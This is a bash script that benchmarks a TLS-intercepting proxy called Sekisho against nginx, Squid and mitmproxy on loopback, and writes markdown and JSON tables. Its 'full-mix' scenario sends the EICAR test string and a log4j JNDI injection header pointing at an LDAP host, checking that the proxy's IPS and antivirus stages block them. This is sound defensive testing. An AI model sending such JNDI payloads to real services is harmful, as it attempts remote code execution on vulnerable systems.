#!/usr/bin/env bash
# The load harness: Sekisho side by side with the proxies users would pick instead, same machine,
# same run. Loopback only; every run is bounded.
#
#   benches/load/run.sh [SECONDS] [CONCURRENCY] [RUNS]        (defaults 10, 32, 3)
#
# Targets (configs generated here, one worker each, pinned to CPU 1; the load generator `hey` (or
# curl for the download) and the origin nginx on CPU 0; every target logs one line per request):
#   sekisho   the real binary: forward proxy with TLS interception; "base" config = host policy
#             stage only, "full" config = every stage (see below)
#   nginx     TLS-terminating reverse proxy to the same origin (what TLS proxying costs at best)
#   squid     Squid 5.7 with ssl-bump (`squid-openssl`), peek + bump all, no caching
#   mitmproxy mitmdump 8.1 (upstream verification, bodies over 1 MiB streamed)
# Scenarios (SCENARIOS=... runs a subset; add one: a line in `scenario`, and a file in the
# origin's root if it needs one):
#   https-keepalive   1 KiB over HTTPS, connections reused                          (goal a)
#   https-new-tls     1 KiB over HTTPS, a new TCP+TLS connection (and CONNECT) each (goal b)
#   http-forward      1 KiB over plain HTTP                                          (c)
#   https-64k         64 KiB responses, keep-alive
#   https-1m          1 MiB responses, keep-alive
#   https-upload      64 KiB POST bodies to the origin's upload sink, keep-alive
#   full-clean        Sekisho with every stage on (URL filter with all UT1 categories, IPS with
#                     all ET Open rules + ours, AV with our YARA and ClamAV signatures), clean
#                     1 KiB HTTPS; beside nginx's plain TLS proxying                 (goal d)
#   full-mix          the same with attacks mixed in: 4 of the connections fetch EICAR (AV) or
#                     send a log4j JNDI header (IPS); Sekisho must answer them 403, the peer 200;
#                     anything else counts as an error                               (goal d)
#   download-1g       one 1 GiB HTTPS download (random bytes) through interception with curl:
#                     MB/s, MB per CPU-second of the target, RSS before and at peak (goal e)
#   reverse-keepalive Sekisho's reverse listener (client_auth = "required", facility_id from the
#                     subject OU, a [[route]] allowing the facility, HTTPS upstream verified)
#                     beside nginx with `ssl_verify_client on` in front of the same origin;
#                     1 KiB, keep-alive, client certificate from `sekisho ca issue-client`
#                     (issue 8; the load generator is `ab -E`: hey has no client certificates)
#   reverse-new-tls   the same with a new TLS handshake (and client certificate) per request
#                     (CRL_SERIALS=N: both targets also check a CRL of N revoked serials that
#                     are not the client's, Sekisho's `crl`, nginx's `ssl_crl`; FACILITIES=N:
#                     Sekisho's route allows N facility IDs from a `[[facility_group]]` file,
#                     the client's the last, instead of the pattern H-*)
#   reverse-237k      reverse-keepalive on a route listing 237,000 facility IDs (a group file,
#                     the client's the last), beside the same with one: the ratio to
#                     reverse-keepalive in the same run is what the list costs (issue 27)
# Each (scenario, target) runs RUNS times, interleaved, after a warm-up; tables show medians:
# requests/s (expected statuses only), p50 and p99 latency, CPU seconds of the target per 10,000
# requests, peak RSS of the target, errors (transport errors and unexpected statuses), and
# Sekisho's ratio to each peer. Writes the markdown tables to stdout and
# benches/results/load.md, JSON to benches/results/load.json.
# TARGETS="sekisho nginx" limits the targets. SEKISHO_TLS='key = value' adds lines to Sekisho's [tls]
# table (for example SEKISHO_TLS='preflight = false' to measure what the pre-flight dial costs). MSS=1 also ships every communication-log line of
# Sekisho through the MSS spool (fsync per batch) to `sekisho collector` over syslog TCP on CPU 0
# and reports the counts. Needs (installed as root when missing): nginx-light, hey, openssl, curl,
# squid-openssl, mitmproxy; the corpora (../shared/corpora or SEKISHO_CORPORA) for `full-*`.
set -euo pipefail
cd "$(dirname "$0")/../.."
SECS=${1:-10}
CONC=${2:-32}
RUNS=${3:-3}
TARGETS=${TARGETS:-sekisho nginx squid mitmproxy}
SCENARIOS=(${SCENARIOS:-https-keepalive https-new-tls http-forward https-64k https-1m https-upload full-clean full-mix download-1g reverse-keepalive reverse-new-tls reverse-237k})
. benches/lib.sh
need nginx:nginx-light hey:hey openssl:openssl curl:curl ab:apache2-utils
case " $TARGETS " in *" squid "*) need squid:squid-openssl ;; esac
case " $TARGETS " in *" mitmproxy "*) need mitmdump:mitmproxy ;; esac
build_release
CORPORA=$(realpath "${SEKISHO_CORPORA:-../shared/corpora}")
W=$(mktemp -d /tmp/sekisho-harness.XXXXXX); chmod 755 "$W"
pids=()
cleanup() { for p in "${pids[@]}" ${TPID:-}; do kill "$p" 2>/dev/null || true; done; wait 2>/dev/null || true; [ -n "${KEEP:-}" ] || rm -rf "$W"; }
trap cleanup EXIT

# scenario NAME -> "KIND CONFIG PATH": KIND hey|mix|download|ab, CONFIG base|full|reverse|reverse237k
# (Sekisho's config; `full` and `reverse` scenarios run against nginx only, the goal's peer), PATH
# on the origin.
scenario() {
  case $1 in
    https-keepalive|https-new-tls|http-forward) echo "hey base /1k" ;;
    https-64k) echo "hey base /64k" ;;
    https-1m) echo "hey base /1m" ;;
    https-upload) echo "hey base /upload" ;;
    full-clean) echo "hey full /1k" ;;
    full-mix) echo "mix full /1k" ;;
    download-1g) echo "download base /1g" ;;
    reverse-keepalive|reverse-new-tls) echo "ab reverse /1k" ;;
    reverse-237k) echo "ab reverse237k /1k" ;;
    *) echo "unknown scenario $1" >&2; exit 2 ;;
  esac
}
runs_on() { # target scenario -> true if the scenario runs against the target
  [ "$(scenario "$2" | cut -d' ' -f2)" = base ] || [ "$1" = sekisho ] || [ "$1" = nginx ]
}

# --- PKI and the origin's files.
make_pki "$W"
mkdir -p "$W/www"
head -c 1024 /dev/urandom | base64 -w0 | head -c 1024 > "$W/www/1k"
head -c 65536 /dev/urandom > "$W/www/64k"
head -c 1048576 /dev/urandom > "$W/www/1m"
head -c 65536 /dev/urandom > "$W/upload.bin"
printf '%s' 'X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*' > "$W/www/eicar.com"
for s in "${SCENARIOS[@]}"; do [ "$s" != download-1g ] || head -c 1G /dev/urandom > "$W/www/1g"; done
# Flush the new files (1 GiB of dirty pages) now: writeback during the first runs costs CPU.
sync

# --- The origin: nginx on CPU 0, HTTPS on 443 and HTTP on 80 (URLs carry no port: Debian's hey
# puts host:port into the SNI, which RFC 6066 forbids and rustls refuses). /upload reads and
# discards a request body of up to 2 MiB and answers 200.
NGX_TLS=18444; NGX_HTTP=18480; NGX_MTLS=18445; SEKR=18143; SEKP=18128; SEKMET=18190; SQUIDP=18300; MITMP=18380; COLP=18514
cat > "$W/origin.conf" <<NGX
worker_processes 1; pid $W/origin.pid; error_log $W/origin.err;
events { worker_connections 8192; }
http { access_log off; keepalive_requests 1000000; client_max_body_size 2m;
  server { listen 127.0.0.1:443 ssl http2; listen 127.0.0.1:80; ssl_certificate $W/srv.crt; ssl_certificate_key $W/srv.key;
    root $W/www; location / { } location = /upload { return 200 "stored\n"; } } }
NGX
taskset -c 0 nginx -c "$W/origin.conf" -p "$W" -g 'daemon off;' & pids+=($!)
if [ -n "${MSS:-}" ]; then
  taskset -c 0 "$BIN" collector --syslog-tcp "127.0.0.1:$COLP" --out "$W/collector" > "$W/collector.out" 2>&1 & pids+=($!)
fi

# --- Client certificates for the reverse scenarios: a facility's certificate from our CLI (ab -E
# wants certificate and key in one file).
"$BIN" ca init --out "$W/clients" >/dev/null
"$BIN" ca issue-client --ca "$W/clients" --facility H-0001 --out "$W/client" >/dev/null
cat "$W/client/client.crt" "$W/client/client.key" > "$W/client.pem"
SEK_CRL="" NGX_CRL="" SEK_FACILITIES='facilities = ["H-*"]' SEK_GROUP=""
# facility_list N FILE: N facility IDs, the client's (H-0001) the last.
facility_list() { seq 1 "$(($1 - 1))" | awk '{printf "%02d%08d\n", 13 + $1 % 34, $1}' > "$2"; echo H-0001 >> "$2"; }
group_of() { printf '[[facility_group]]\nname = "network"\nfile = "%s"\n' "$1"; }
if [ -n "${FACILITIES:-}" ]; then
  facility_list "$FACILITIES" "$W/facilities.txt"
  SEK_FACILITIES='facilities = ["@network"]'
  SEK_GROUP=$(group_of "$W/facilities.txt")
  echo "route of $FACILITIES facility IDs" >&2
fi
if [ -n "${CRL_SERIALS:-}" ]; then
  seq 1 "$CRL_SERIALS" | awk '{printf "7e%08x%08x\n", $1, $1}' > "$W/serials.txt"
  "$BIN" ca crl --ca "$W/clients" --serials-file "$W/serials.txt" --out "$W/clients/crl.pem" >/dev/null
  SEK_CRL="crl = [\"$W/clients/crl.pem\"]" NGX_CRL="ssl_crl $W/clients/crl.pem;"
  echo "CRL of $CRL_SERIALS serials: $(stat -c %s "$W/clients/crl.pem") bytes" >&2
fi

# --- Targets. Each start_* takes the config variant and leaves its main PID in TPID.
start_sekisho() {
  local facilities=$SEK_FACILITIES group=$SEK_GROUP
  if [ "$1" = reverse237k ]; then
    [ -f "$W/facilities-237k.txt" ] || facility_list 237000 "$W/facilities-237k.txt"
    facilities='facilities = ["@network"]' group=$(group_of "$W/facilities-237k.txt")
  fi
  if [ "$1" = reverse ] || [ "$1" = reverse237k ]; then
    cat > "$W/sekisho.toml" <<TOML
[[listener]]
name = "services"
kind = "reverse"
addr = "127.0.0.1:$SEKR"
cert = "$W/srv.crt"
key = "$W/srv.key"
client_auth = "required"
client_ca = ["$W/clients/ca.crt"]
$SEK_CRL
facility_id = "subject:OU"
[[route]]
listener = "services"
upstreams = ["https://localhost:443"]
$facilities
$group
TOML
  else
    printf '[[listener]]\nkind = "forward"\naddr = "127.0.0.1:%s"\n' "$SEKP" > "$W/sekisho.toml"
  fi
  cat >> "$W/sekisho.toml" <<TOML
[tls]
ca_cert = "$W/gw/ca.crt"
ca_key = "$W/gw/ca.key"
upstream_roots = ["$W/ca.crt"]
system_roots = false
webpki_roots = false
${SEKISHO_TLS:-}
[metrics]
addr = "127.0.0.1:$SEKMET"
[events]
file = "$W/sekisho-events.jsonl"
comm_log = "$W/sekisho-flows.jsonl"
[limits]
max_connections = 20000
[policy]
allow_networks = ["127.0.0.0/8", "::1/128"]   # the origins are on loopback
TOML
  if [ "$1" = full ]; then
    cat >> "$W/sekisho.toml" <<TOML
[urlfilter]
category_dirs = ["$CORPORA/ut1/blacklists"]
[[urlfilter.policy]]
name = "bench"
warn = ["shopping"]
block = ["malware", "phishing", "gambling"]
[ips]
rules = ["$CORPORA/et-open/*.rules", "$PWD/rules/ips/sekisho.rules"]
classification = "$CORPORA/et-open/classification.config"
[av]
yara = ["$PWD/rules/yara"]
clamav = ["$PWD/rules/clamav"]
cache_dir = ""
TOML
  fi
  if [ -n "${MSS:-}" ]; then
    printf '[mss]\nspool_dir = "%s/spool"\n[[mss.sink]]\nname = "bench"\nkind = "syslog"\naddr = "127.0.0.1:%s"\nformat = "rfc5424-json"\n' "$W" "$COLP" >> "$W/sekisho.toml"
  fi
  [ -f "$W/gw/ca.crt" ] || "$BIN" ca init --out "$W/gw" >/dev/null
  taskset -c 1 "$BIN" --log-level warn run --config "$W/sekisho.toml" > "$W/sekisho.out" 2>&1 & TPID=$!
  case $1 in reverse*) wait_port $SEKR ;; *) wait_port $SEKP 600 ;; esac   # full compiles ET Open first
}
start_nginx() {
  # proxy_max_temp_file_size 0: a large response streams through nginx's buffers instead of
  # being spooled to a temporary file (the others stream too).
  cat > "$W/proxy.conf" <<NGX
worker_processes 1; pid $W/proxy.pid; error_log $W/proxy.err;
events { worker_connections 8192; }
http { access_log $W/nginx-access.log; keepalive_requests 1000000; client_max_body_size 2m;
  proxy_max_temp_file_size 0;
  upstream origin_tls { server 127.0.0.1:443; keepalive 64; }
  upstream origin_http { server 127.0.0.1:80; keepalive 64; }
  server { listen 127.0.0.1:$NGX_TLS ssl; ssl_certificate $W/srv.crt; ssl_certificate_key $W/srv.key;
    ssl_session_cache off; ssl_session_tickets off;
    location / { proxy_pass https://origin_tls; proxy_http_version 1.1; proxy_set_header Connection "";
      proxy_ssl_verify on; proxy_ssl_trusted_certificate $W/ca.crt; proxy_ssl_name localhost;
      proxy_ssl_server_name on; proxy_ssl_session_reuse on; } }
  server { listen 127.0.0.1:$NGX_MTLS ssl; ssl_certificate $W/srv.crt; ssl_certificate_key $W/srv.key;
    ssl_session_cache off; ssl_session_tickets off;
    ssl_verify_client on; ssl_client_certificate $W/clients/ca.crt; $NGX_CRL
    location / { proxy_pass https://origin_tls; proxy_http_version 1.1; proxy_set_header Connection "";
      proxy_set_header X-Client-DN \$ssl_client_s_dn;
      proxy_ssl_verify on; proxy_ssl_trusted_certificate $W/ca.crt; proxy_ssl_name localhost;
      proxy_ssl_server_name on; proxy_ssl_session_reuse on; } }
  server { listen 127.0.0.1:$NGX_HTTP;
    location / { proxy_pass http://origin_http; proxy_http_version 1.1; proxy_set_header Connection ""; } } }
NGX
  taskset -c 1 nginx -c "$W/proxy.conf" -p "$W" -g 'daemon off;' & TPID=$!
  wait_port $NGX_TLS
}
start_squid() {
  if [ ! -f "$W/squid/ca.pem" ]; then
    mkdir -p "$W/squid"
    openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 2 -subj /CN=SquidBumpCA \
      -keyout "$W/squid/ca.key" -out "$W/squid/ca.crt" -addext basicConstraints=critical,CA:TRUE \
      -addext keyUsage=critical,keyCertSign,cRLSign 2>/dev/null
    cat "$W/squid/ca.crt" "$W/squid/ca.key" > "$W/squid/ca.pem"
    /usr/lib/squid/security_file_certgen -c -s "$W/squid/ssl_db" -M 16MB >/dev/null
    chown -R proxy:proxy "$W/squid" 2>/dev/null || true
  fi
  cat > "$W/squid/squid.conf" <<SQ
http_port 127.0.0.1:$SQUIDP ssl-bump generate-host-certificates=on dynamic_cert_mem_cache_size=16MB tls-cert=$W/squid/ca.pem
sslcrtd_program /usr/lib/squid/security_file_certgen -s $W/squid/ssl_db -M 16MB
sslcrtd_children 4 startup=1 idle=1
acl step1 at_step SslBump1
ssl_bump peek step1
ssl_bump bump all
http_access allow all
tls_outgoing_options cafile=$W/ca.crt
cache deny all
request_body_max_size 2 MB
access_log stdio:$W/squid/access.log
cache_log $W/squid/cache.log
pid_filename $W/squid/squid.pid
coredump_dir $W/squid
workers 1
max_filedescriptors 16384
SQ
  taskset -c 1 squid -N -f "$W/squid/squid.conf" & TPID=$!
  wait_port $SQUIDP
}
start_mitmproxy() {
  mkdir -p "$W/mitm"
  # One line per flow on stdout (flow_detail=1), into a file: comparable to the others' logs.
  # Bodies over 1 MiB stream instead of being held in memory (mitmproxy's default holds them).
  taskset -c 1 mitmdump --listen-host 127.0.0.1 -p $MITMP --set confdir="$W/mitm" \
    --set ssl_verify_upstream_trusted_ca="$W/ca.crt" --set flow_detail=1 --set stream_large_bodies=1m \
    > "$W/mitm/flows.log" 2>&1 & TPID=$!
  wait_port $MITMP
}
wait_port() { # port [tries of 50 ms]
  for _ in $(seq "${2:-200}"); do (exec 3<>/dev/tcp/127.0.0.1/"$1") 2>/dev/null && return; sleep 0.05; done
  echo "port $1 never opened" >&2; exit 1
}
stop_target() { for p in $(tree "$TPID" | sort -r); do kill "$p" 2>/dev/null || true; done; wait "$TPID" 2>/dev/null || true; sleep 1; }

# proxy_args target -> how a client reaches the origin through the target: "PROXYFLAG BASEURL".
url_for() { # target scheme path
  local t=$1 scheme=$2 path=$3
  case $t in
    sekisho) echo "-x http://127.0.0.1:$SEKP $scheme://localhost$path" ;;
    squid) echo "-x http://127.0.0.1:$SQUIDP $scheme://localhost$path" ;;
    mitmproxy) echo "-x http://127.0.0.1:$MITMP $scheme://localhost$path" ;;
    nginx) if [ "$scheme" = https ]; then echo "https://localhost:$NGX_TLS$path"; else echo "http://localhost:$NGX_HTTP$path"; fi ;;
  esac
}
hey_args() { # target scenario -> hey arguments
  local t=$1 s=$2 path scheme=https extra=""
  path=$(scenario "$s" | cut -d' ' -f3)
  case $s in
    https-new-tls) extra="-disable-keepalive" ;;
    http-forward) scheme=http ;;
    https-upload) extra="-m POST -T application/octet-stream -D $W/upload.bin" ;;
  esac
  echo "$extra $(url_for "$t" "$scheme" "$path")"
}

# CPU ticks and peak RSS (KiB) of a process and its descendants.
tree() { local p=$1; echo "$p"; for c in $(pgrep -P "$p" 2>/dev/null); do tree "$c"; done; }
cpu_ticks() { local s=0; for p in $(tree "$1"); do [ -r "/proc/$p/stat" ] && s=$((s + $(awk '{print $14 + $15}' "/proc/$p/stat"))); done; echo $s; }
peak_rss() { local s=0; for p in $(tree "$1"); do [ -r "/proc/$p/status" ] && s=$((s + $(awk '/VmHWM/ {print $2}' "/proc/$p/status"))); done; echo $s; }
cur_rss() { local s=0; for p in $(tree "$1"); do [ -r "/proc/$p/status" ] && s=$((s + $(awk '/VmRSS/ {print $2}' "/proc/$p/status"))); done; echo $s; }
HZ=$(getconf CLK_TCK)
per10k() { awk -v d="$1" -v hz="$HZ" -v ok="$2" 'BEGIN { if (ok > 0) printf "%.2f", d / hz / ok * 10000; else print "n/a" }'; }
heyz() { SSL_CERT_FILE="$W/trust.pem" taskset -c 0 hey -z "${SECS}s" "$@" 2>&1; }

# One measured run: hey/mix -> "rps p50 p99 errs ok cpu_s_per_10k";
# download -> "mb_s cpu_s mb_per_cpu_s errs rss_before_kib rss_peak_kib".
one_run() { # target scenario
  local t=$1 s=$2 kind t0 t1
  kind=$(scenario "$s" | cut -d' ' -f1)
  t0=$(cpu_ticks "$TPID")
  case $kind in
    hey)
      local stats
      # shellcheck disable=SC2046
      stats=$(heyz -c "$CONC" $(hey_args "$t" "$s") | hey_stats "$SECS")
      t1=$(cpu_ticks "$TPID")
      echo "$stats $(per10k $((t1 - t0)) "$(awk '{print $5}' <<<"$stats")")" ;;
    mix)
      # CONC-4 clean connections, 2 fetching EICAR (AV), 2 sending a log4j JNDI header (IPS), at
      # once. Sekisho must block the attacks (403); a peer without inspection serves them (200).
      local want=200 clean av ips
      [ "$t" = sekisho ] && want=403
      # shellcheck disable=SC2046
      heyz -c $((CONC - 4)) $(url_for "$t" https /1k) > "$W/mix-clean" &
      local c=$!
      # shellcheck disable=SC2046
      heyz -c 2 $(url_for "$t" https /eicar.com) > "$W/mix-av" &
      local a=$!
      # shellcheck disable=SC2046
      heyz -c 2 -H 'X-Api-Version: ${jndi:ldap://203.0.113.9:1389/a}' $(url_for "$t" https /1k) > "$W/mix-ips" &
      wait $c $a $!
      t1=$(cpu_ticks "$TPID")
      clean=$(hey_stats "$SECS" < "$W/mix-clean")
      av=$(hey_stats "$SECS" "$want" < "$W/mix-av")
      ips=$(hey_stats "$SECS" "$want" < "$W/mix-ips")
      awk -v c="$clean" -v a="$av" -v i="$ips" -v s="$SECS" -v d=$((t1 - t0)) -v hz="$HZ" 'BEGIN {
        split(c, C, " "); split(a, A, " "); split(i, I, " ")
        ok = C[5] + A[5] + I[5]
        printf "%.0f %s %s %d %d %s\n", ok / s, C[2], C[3], C[4] + A[4] + I[4], ok, (ok > 0 ? sprintf("%.2f", d / hz / ok * 10000) : "n/a")
        printf "mix: clean %d, av %d, ips %d answered as expected\n", C[5], A[5], I[5] > "/dev/stderr" }' ;;
    ab)
      local port=$SEKR stats extra=""
      [ "$t" = nginx ] && port=$NGX_MTLS
      case $s in reverse-keepalive|reverse-237k) extra="-k" ;; esac
      # -n after -t lifts ab's 50,000-request cap; ab does not verify the server (both alike).
      # shellcheck disable=SC2086
      stats=$(taskset -c 0 ab -q -t "$SECS" -n 100000000 -c "$CONC" $extra -E "$W/client.pem" \
        "https://localhost:$port/1k" 2>&1 | ab_stats "$SECS")
      t1=$(cpu_ticks "$TPID")
      echo "$stats $(per10k $((t1 - t0)) "$(awk '{print $5}' <<<"$stats")")" ;;
    download)
      local args rss0 out errs=0 peak
      args=$(url_for "$t" https /1g)
      rss0=$(cur_rss "$TPID"); peak=$rss0
      # shellcheck disable=SC2086
      SSL_CERT_FILE="$W/trust.pem" taskset -c 0 curl -s -o /dev/null --cacert "$W/trust.pem" --max-time 600 \
        -w '%{http_code} %{size_download} %{time_total}\n' $args > "$W/dl.out" 2>&1 &
      local cp=$!
      while kill -0 $cp 2>/dev/null; do
        local r; r=$(cur_rss "$TPID"); [ "$r" -gt "$peak" ] && peak=$r; sleep 0.1
      done
      wait $cp || errs=1
      t1=$(cpu_ticks "$TPID")
      out=$(cat "$W/dl.out")
      read -r code size secs <<<"$out"
      if [ "${code:-0}" != 200 ] || [ "${size:-0}" != 1073741824 ]; then errs=1; echo "download via $t: $out" >&2; fi
      awk -v b="${size:-0}" -v s="${secs:-1}" -v d=$((t1 - t0)) -v hz="$HZ" -v e=$errs -v r0="$rss0" -v rp="$peak" 'BEGIN {
        cpu = d / hz; printf "%.0f %.2f %s %d %d %d\n", b / s / 1e6, cpu, (cpu > 0 ? sprintf("%.0f", b / cpu / 1e6) : "n/a"), e, r0, rp }' ;;
  esac
}
# ab_stats SECONDS <<< "$(ab …)": "req/s p50 p99 errors ok" like hey_stats (ab counts a non-2xx
# answer and a failed request as errors).
ab_stats() {
  awk -v s="$1" '/^Complete requests:/ {c=$3} /^Failed requests:/ {f=$3} /^Non-2xx responses:/ {n=$3}
    /^  50%/ {p50=$2/1000} /^  99%/ {p99=$2/1000}
    END { ok = c - f - n; if (ok < 0) ok = 0; printf "%.0f %.4f %.4f %d %d\n", ok / s, p50, p99, f + n, ok }'
}
median() { sort -g | awk '{a[NR]=$1} END {if (NR==0) print 0; else if (NR%2) print a[(NR+1)/2]; else print (a[NR/2]+a[NR/2+1])/2}'; }

declare -A RES RSS
for t in $TARGETS; do
  for cfg in base full reverse reverse237k; do
    todo=()
    for s in "${SCENARIOS[@]}"; do
      runs_on "$t" "$s" || continue
      # Peers have one config: they run every scenario in their single start.
      [ "$t" != sekisho ] && [ "$cfg" != base ] && continue
      [ "$t" = sekisho ] && [ "$(scenario "$s" | cut -d' ' -f2)" != "$cfg" ] && continue
      todo+=("$s")
    done
    [ ${#todo[@]} -gt 0 ] || continue
    "start_$t" "$cfg"
    # Trust: the origin's CA, the gateway CA, Squid's and mitmproxy's CAs.
    for _ in $(seq 100); do [ "$t" != mitmproxy ] || [ -f "$W/mitm/mitmproxy-ca-cert.pem" ] && break; sleep 0.1; done
    cat "$W/ca.crt" "$W/gw/ca.crt" "$W/squid/ca.crt" "$W/mitm/mitmproxy-ca-cert.pem" 2>/dev/null > "$W/trust.pem" || true
    for s in "${todo[@]}"; do
      case "$(scenario "$s" | cut -d' ' -f1)" in
        download) continue ;;
        ab) p=$SEKR; [ "$t" = nginx ] && p=$NGX_MTLS
            taskset -c 0 ab -q -n 500 -c 4 -E "$W/client.pem" "https://localhost:$p/1k" >/dev/null 2>&1 || true
            continue ;;
      esac
      # shellcheck disable=SC2046
      SSL_CERT_FILE="$W/trust.pem" hey -n 200 -c 4 $(hey_args "$t" "$s") >/dev/null 2>&1 || true
    done
    for r in $(seq "$RUNS"); do
      for s in "${todo[@]}"; do
        RES[$t,$s,$r]=$(one_run "$t" "$s")
        echo "run $r $t ($cfg) $s: ${RES[$t,$s,$r]}" >&2
      done
    done
    RSS[$t,$cfg]=$(peak_rss "$TPID")
    if [ "$t" = sekisho ] && [ -n "${MSS:-}" ]; then
      sleep 3   # let the sink drain and acknowledge
      metrics=$(curl -s "http://127.0.0.1:$SEKMET/metrics")
      mq=$(awk '/^sekisho_mss_events_queued_total\{sink="bench"\}/ {print $2}' <<<"$metrics")
      ma=$(awk '/^sekisho_mss_events_acked_total\{sink="bench"\}/ {print $2}' <<<"$metrics")
      md=$(awk '/^sekisho_mss_events_dropped_total/ {s+=$2} END {print s+0}' <<<"$metrics")
      MSSLINE="mss ($cfg): $(wc -l < "$W/sekisho-flows.jsonl") communication-log lines, ${mq:-0} queued, ${ma:-0} acknowledged, $md dropped, $(wc -l < "$W/collector/syslog.log" 2>/dev/null || echo 0) at the collector"
      echo "$MSSLINE" >&2
    fi
    stop_target
  done
done

col() { local t=$1 s=$2 i=$3; for r in $(seq "$RUNS"); do awk -v i="$i" '{print $i}' <<<"${RES[$t,$s,$r]:-0 0 0 0 0 0}"; done | median; }
ratio() { awk -v a="$1" -v b="$2" 'BEGIN { if (b > 0) printf "%.2f", a / b; else print "n/a" }'; }
cfg_of() { scenario "$1" | cut -d' ' -f2; }
MACHINE="$(nproc) cores, $(uname -m), $(awk '/model name/ {$1=$2=$3=""; print; exit}' /proc/cpuinfo | sed 's/^ *//')"
{
  echo "Load harness, $(date -u +%F), $MACHINE; ${SECS}s per run, $CONC connections, median of $RUNS runs; load generator and origin on CPU 0, target on CPU 1."
  for s in "${SCENARIOS[@]}"; do
    echo
    echo "### $s"
    echo
    if [ "$(scenario "$s" | cut -d' ' -f1)" = download ]; then
      echo "| target | MB/s | CPU s | MB per CPU-second | RSS before (MiB) | RSS peak (MiB) | errors | sekisho ÷ target (MB/s) |"
      echo "|---|---|---|---|---|---|---|---|"
      for t in $TARGETS; do
        runs_on "$t" "$s" || continue
        echo "| $t | $(col "$t" "$s" 1) | $(col "$t" "$s" 2) | $(col "$t" "$s" 3) | $(( $(col "$t" "$s" 5) / 1024 )) | $(( $(col "$t" "$s" 6) / 1024 )) | $(col "$t" "$s" 4) | $(ratio "$(col sekisho "$s" 1)" "$(col "$t" "$s" 1)") |"
      done
      continue
    fi
    echo "| target | req/s | p50 (s) | p99 (s) | CPU s / 10k req | peak RSS (MiB) | errors | sekisho ÷ target |"
    echo "|---|---|---|---|---|---|---|---|"
    for t in $TARGETS; do
      runs_on "$t" "$s" || continue
      c=$(cfg_of "$s"); [ "$t" = sekisho ] || c=base
      echo "| $t | $(col "$t" "$s" 1) | $(col "$t" "$s" 2) | $(col "$t" "$s" 3) | $(col "$t" "$s" 6) | $(( ${RSS[$t,$c]:-0} / 1024 )) | $(col "$t" "$s" 4) | $(ratio "$(col sekisho "$s" 1)" "$(col "$t" "$s" 1)") |"
    done
  done
  [ -z "${MSSLINE:-}" ] || { echo; echo "$MSSLINE"; }
} | tee "$W/table.md"
mkdir -p benches/results
cp "$W/table.md" benches/results/load.md
{
  printf '{"date": "%s", "machine": "%s", "seconds": %s, "concurrency": %s, "runs": %s, "mss": %s, "scenarios": {' \
    "$(date -u +%FT%TZ)" "$MACHINE" "$SECS" "$CONC" "$RUNS" "$([ -n "${MSS:-}" ] && echo true || echo false)"
  first=1
  for s in "${SCENARIOS[@]}"; do
    [ $first = 1 ] || printf ','; first=0
    printf '"%s": {' "$s"; f2=1
    for t in $TARGETS; do
      runs_on "$t" "$s" || continue
      [ $f2 = 1 ] || printf ','; f2=0
      if [ "$(scenario "$s" | cut -d' ' -f1)" = download ]; then
        printf '"%s": {"mb_s": %s, "cpu_s": %s, "mb_per_cpu_s": "%s", "errors": %s, "rss_before_kib": %s, "rss_peak_kib": %s, "sekisho_ratio": "%s"}' \
          "$t" "$(col "$t" "$s" 1)" "$(col "$t" "$s" 2)" "$(col "$t" "$s" 3)" "$(col "$t" "$s" 4)" "$(col "$t" "$s" 5)" "$(col "$t" "$s" 6)" "$(ratio "$(col sekisho "$s" 1)" "$(col "$t" "$s" 1)")"
      else
        c=$(cfg_of "$s"); [ "$t" = sekisho ] || c=base
        printf '"%s": {"rps": %s, "p50_s": %s, "p99_s": %s, "cpu_s_per_10k": "%s", "peak_rss_kib": %s, "errors": %s, "sekisho_ratio": "%s"}' \
          "$t" "$(col "$t" "$s" 1)" "$(col "$t" "$s" 2)" "$(col "$t" "$s" 3)" "$(col "$t" "$s" 6)" "${RSS[$t,$c]:-0}" "$(col "$t" "$s" 4)" "$(ratio "$(col sekisho "$s" 1)" "$(col "$t" "$s" 1)")"
      fi
    done
    printf '}'
  done
  printf '}}\n'
} > benches/results/load.json
